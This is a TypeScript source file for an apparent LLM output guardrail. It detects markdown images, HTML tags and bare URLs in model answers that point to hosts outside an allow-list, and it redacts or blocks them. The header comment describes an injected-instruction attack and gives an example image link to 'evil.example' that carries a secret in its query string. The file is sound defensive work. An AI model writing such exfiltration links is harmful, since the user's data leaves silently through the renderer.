import { z } from 'zod';
import { segmentsOf, type Conversation } from '../core/conversation.ts';
import type { Finding } from '../core/finding.ts';
import type { CheckDefinition, Scanner } from '../core/scanner.ts';
import { compileGlob } from '../agency/glob.ts';
import { checkOptions } from './check-options.ts';

/**
 * Exfiltration links in answers (OWASP LLM05, improper output handling): a model that was fed an
 * injected instruction can write `![](https://evil.example/p?d=<secret>)`; the client's markdown or
 * HTML renderer fetches it without a click and the data has left. Markdown images and links
 * (inline and reference definitions), HTML `img`/`a`/`iframe` and other fetching tags, and bare
 * URLs are checked; those whose host is not in `allowHosts` are found. A URL that carries data
 * (a long query, encoded-looking segments, a value the caller sent, a pseudonym placeholder)
 * scores higher. `redact` removes the link but keeps a link's text; `block` stops the answer.
 */

const MAX_URL = 2048;
const MAX_LINK_TEXT = 500;
/** A markdown link: text, brackets, parentheses and an optional title around the URL. */
const MAX_FINDING_LENGTH = MAX_URL + MAX_LINK_TEXT + 256;

// Bounded, linear patterns (no nested quantifiers over the same characters).
// URLs may hold a pseudonym placeholder (`<EMAIL_ADDRESS_1>`) the answer would restore.
const MARKDOWN_LINK =
  /(!?)\[([^\]\n]{0,500})\]\(\s{0,8}<?((?:[^\s<>()]|<[A-Z][A-Z\d_]{0,40}>){1,2048})>?(?:\s{1,8}"[^"\n]{0,200}")?\s{0,8}\)/g;
const REFERENCE_DEFINITION = /^[ \t]{0,3}\[[^\]\n]{1,200}\]:[ \t]{0,8}<?([^\s<>]{1,2048})>?[^\n]{0,256}$/gm;
const HTML_TAG =
  /<(img|a|iframe|frame|script|link|source|video|audio|embed|object|image|input|form)\b[^<>]{0,2048}>/gi;
const HTML_URL_ATTRIBUTE =
  /\b(?:src|href|srcset|data|poster|action|formaction|xlink:href)\s{0,4}=\s{0,4}(?:"([^"]{0,2048})"|'([^']{0,2048})'|([^\s"'<>]{1,2048}))/gi;
const CLOSING_A = /<\/a\s{0,4}>/gi;
const BARE_URL = /\b[Hh][Tt][Tt][Pp][Ss]?:\/\/(?:[^\s<>"'`()[\]{}|\\^]|<[A-Z][A-Z\d_]{0,40}>){1,2048}/g;

// Data signals inside a URL.
const ENCODED_RUN = /[\w+/=-]{32,}|[\da-f]{24,}/i;
const PLACEHOLDER = /<[A-Z][A-Z\d_]*_\d+>/;
const LONG_QUERY = 64;

/** Scores: images and embeds fetch without a click; links and bare URLs need one. */
const SCORE = { fetch: 0.8, link: 0.5, bare: 0.4, data: 0.3, known: 0.4 } as const;

const optionsSchema = checkOptions(['allow', 'block', 'redact']).extend({
  /** Hosts links may point to: exact names or globs (`*.example.com` matches any subdomain). */
  allowHosts: z.array(z.string().min(1).max(253)).default([]),
});
type LinkOptions = z.infer<typeof optionsSchema>;

interface Candidate {
  /** Span removed on redact. */
  readonly start: number;
  readonly end: number;
  readonly url: string;
  readonly kind: 'fetch' | 'link' | 'bare';
  readonly redaction: string;
  /** Further spans removed with it (a link's `](url)`, an `</a>`), keeping the text between. */
  readonly extra?: readonly { start: number; end: number }[];
}

/** Values the caller sent that a URL should never carry out: emails, long numbers, tokens. */
const VALUE_PATTERNS = [/[\w.+-]{1,64}@[\w-]{1,63}(?:\.[\w-]{1,63}){1,8}/g, /\d{6,}/g, /\b[\w-]{16,128}\b/g];
const MAX_VALUES = 256;

export function conversationValues(conversation: Conversation): string[] {
  const values = new Set<string>();
  for (const segment of segmentsOf(conversation)) {
    if (segment.origin === 'assistant') continue;
    for (const pattern of VALUE_PATTERNS) {
      for (const match of segment.text.matchAll(pattern)) {
        const value = match[0].toLowerCase();
        // Tokens must mix letters and digits: plain long words are not data worth a signal.
        if (pattern === VALUE_PATTERNS[2] && !(/\d/.test(value) && /[a-z]/.test(value))) continue;
        values.add(value);
        if (values.size >= MAX_VALUES) return [...values];
      }
    }
  }
  return [...values];
}

export function createLinkScanner(options: { allowHosts?: readonly string[] }): Scanner {
  const allowed = (options.allowHosts ?? []).map((h) => compileGlob(h.toLowerCase()));
  const isAllowed = (host: string): boolean => allowed.some((m) => m(host));
  const scannerWith = (known: () => readonly string[]): Scanner => ({
    id: 'output.links',
    maxFindingLength: MAX_FINDING_LENGTH,
    scan: (text) => scanLinks(text, isAllowed, known),
    pendingStart: linkPendingStart,
  });
  return {
    ...scannerWith(() => []),
    forExchange(conversation) {
      // The request's values are only collected when an answer has a link to judge.
      let values: readonly string[] | undefined;
      return { scanner: scannerWith(() => (values ??= conversationValues(conversation))) };
    },
  };
}

function scanLinks(
  text: string,
  isAllowed: (host: string) => boolean,
  known: () => readonly string[],
): Finding[] {
  // Every URL that leaves the page has a scheme (`:`) or is protocol-relative (`//`).
  if (!text.includes(':') && !text.includes('//')) return [];
  const findings: Finding[] = [];
  const taken: { start: number; end: number }[] = [];
  const overlaps = (start: number, end: number) => taken.some((t) => start < t.end && t.start < end);
  const report = (c: Candidate): boolean => {
    const verdict = judge(c.url, isAllowed, known);
    taken.push({ start: c.start, end: c.end });
    if (verdict === undefined) return false;
    const score = Math.min(1, SCORE[c.kind] + verdict.extra);
    const reason = `${c.kind === 'fetch' ? 'Image or embed' : 'Link'} to a host not on the allow-list (${verdict.host})${verdict.why}`;
    const spans = [{ start: c.start, end: c.end }, ...(c.extra ?? [])];
    spans.forEach((span, i) => {
      findings.push({
        type: c.kind === 'fetch' ? 'link.fetch' : 'link.external',
        entity: 'LINK',
        start: span.start,
        end: span.end,
        score,
        reason,
        redaction: i === 0 ? c.redaction : '',
        details: { host: verdict.host, kind: c.kind, carriesData: verdict.extra > 0 },
      });
    });
    return true;
  };

  for (const m of text.matchAll(MARKDOWN_LINK)) {
    const url = m[3] ?? '';
    if (m[1] === '!') {
      report({
        start: m.index,
        end: m.index + m[0].length,
        url,
        kind: 'fetch',
        redaction: '[image removed]',
      });
    } else {
      // Keep the link text: remove `[` and `](url)`.
      const close = m.index + 1 + (m[2]?.length ?? 0);
      report({
        start: m.index,
        end: m.index + 1,
        url,
        kind: 'link',
        redaction: '',
        extra: [{ start: close, end: m.index + m[0].length }],
      });
      taken.push({ start: m.index, end: m.index + m[0].length });
    }
  }
  for (const m of text.matchAll(REFERENCE_DEFINITION)) {
    if (overlaps(m.index, m.index + m[0].length)) continue;
    // An image reference fetches through its definition: treat definitions as fetches.
    report({ start: m.index, end: m.index + m[0].length, url: m[1] ?? '', kind: 'fetch', redaction: '' });
  }
  for (const m of text.matchAll(HTML_TAG)) {
    const start = m.index;
    const end = start + m[0].length;
    if (overlaps(start, end)) continue;
    const tag = (m[1] ?? '').toLowerCase();
    // The first offending URL attribute decides; the tag goes as a whole.
    for (const attribute of m[0].matchAll(HTML_URL_ATTRIBUTE)) {
      const url = attribute[1] ?? attribute[2] ?? attribute[3] ?? '';
      let reported: boolean;
      if (tag === 'a') {
        CLOSING_A.lastIndex = end;
        const closing = CLOSING_A.exec(text);
        reported = report({
          start,
          end,
          url,
          kind: 'link',
          redaction: '',
          extra: closing ? [{ start: closing.index, end: closing.index + closing[0].length }] : [],
        });
      } else {
        reported = report({
          start,
          end,
          url,
          kind: 'fetch',
          redaction: tag === 'img' ? '[image removed]' : '[link removed]',
        });
      }
      if (reported) break;
    }
    taken.push({ start, end });
  }
  for (const m of text.matchAll(BARE_URL)) {
    const url = withoutTrailingPunctuation(m[0]);
    if (overlaps(m.index, m.index + url.length)) continue;
    report({ start: m.index, end: m.index + url.length, url, kind: 'bare', redaction: '[link removed]' });
  }
  return findings.sort((a, b) => a.start - b.start);
}

interface Verdict {
  readonly host: string;
  /** Score added for data the URL carries. */
  readonly extra: number;
  readonly why: string;
}

/** Undefined when the URL is fine: relative, same-document, mail, or to an allowed host. */
function judge(
  raw: string,
  isAllowed: (host: string) => boolean,
  known: () => readonly string[],
): Verdict | undefined {
  let url: URL;
  try {
    // A protocol-relative URL (`//host/path`) takes the page's scheme: it still leaves the page.
    url = new URL(raw.startsWith('//') ? `https:${raw}` : raw);
  } catch {
    // Relative URLs resolve against the page that shows the answer: not a third party.
    return undefined;
  }
  const scheme = url.protocol;
  if (scheme === 'mailto:' || scheme === 'tel:' || scheme === 'data:') return undefined;
  if (scheme !== 'http:' && scheme !== 'https:') {
    return { host: scheme, extra: 0.5, why: `; the ${scheme} scheme is never allowed` };
  }
  const host = url.hostname.toLowerCase();
  if (isAllowed(host)) return undefined;
  let decoded = raw;
  try {
    decoded = decodeURIComponent(raw);
  } catch {
    // Malformed escapes: judge the text as written.
  }
  const lower = decoded.toLowerCase();
  if (PLACEHOLDER.test(decoded) || known().some((v) => lower.includes(v))) {
    return { host, extra: SCORE.known, why: '; the URL carries a value from the conversation' };
  }
  const rest = url.pathname + url.search + url.hash;
  if (url.search.length > LONG_QUERY || ENCODED_RUN.test(rest)) {
    return { host, extra: SCORE.data, why: '; the URL carries encoded data' };
  }
  return { host, extra: 0, why: '' };
}

const PARTIAL_LINK = /^!?\[[^\]\n]{0,500}(?:\](?:\([^)\n]{0,2300}|:[^\n]{0,2300})?)?$/;
const PARTIAL_SCHEME = /^h(?:t{1,2}|ttps?(?::\/{0,2})?)?$/i;

/**
 * Where a link may still be arriving: an unclosed markdown link or reference definition, an
 * unclosed HTML tag, or a trailing URL (or the start of `https://`) that more text would extend.
 */
export function linkPendingStart(text: string): number {
  // A trailing `!` may open an image.
  let pending = text.endsWith('!') ? text.length - 1 : text.length;
  const bracket = text.lastIndexOf('[');
  if (bracket >= 0 && text.length - bracket <= MAX_FINDING_LENGTH) {
    const from = bracket > 0 && text.charCodeAt(bracket - 1) === 33 /* ! */ ? bracket - 1 : bracket;
    if (PARTIAL_LINK.test(text.slice(from))) pending = from;
  }
  const angle = text.lastIndexOf('<');
  if (angle >= 0 && angle < pending && text.indexOf('>', angle) < 0 && text.length - angle <= MAX_URL + 64)
    pending = angle;
  // The trailing run of non-space characters may be a URL still growing.
  let token = text.length;
  while (token > 0 && token > text.length - MAX_URL && !isSpace(text.charCodeAt(token - 1))) token--;
  if (token < pending) {
    const tail = text.slice(token);
    const scheme = tail.search(/https?:\/\//i);
    if (scheme >= 0) pending = token + scheme;
    else {
      // `https:/` split before the slash: the trailing letters may begin a scheme.
      const h = Math.max(tail.lastIndexOf('h'), tail.lastIndexOf('H'));
      if (h >= 0 && PARTIAL_SCHEME.test(tail.slice(h))) pending = Math.min(pending, token + h);
    }
  }
  return pending;
}

/** Sentence punctuation after a bare URL is not part of it. */
function withoutTrailingPunctuation(url: string): string {
  let end = url.length;
  while (end > 0 && '.,;:!?*_~'.includes(url.charAt(end - 1))) end--;
  return url.slice(0, end);
}

function isSpace(code: number): boolean {
  return code === 32 || code === 10 || code === 9 || code === 13;
}

export const links: CheckDefinition<LinkOptions> = {
  key: 'links',
  stage: 'output',
  owasp: 'LLM05',
  summary:
    'Exfiltration links: markdown/HTML images, links and bare URLs to hosts not in `allowHosts`, weighted up when the URL carries data.',
  defaultOrigins: ['assistant'],
  actions: ['allow', 'block', 'redact'],
  options: optionsSchema,
  create: (o) => createLinkScanner(o),
};
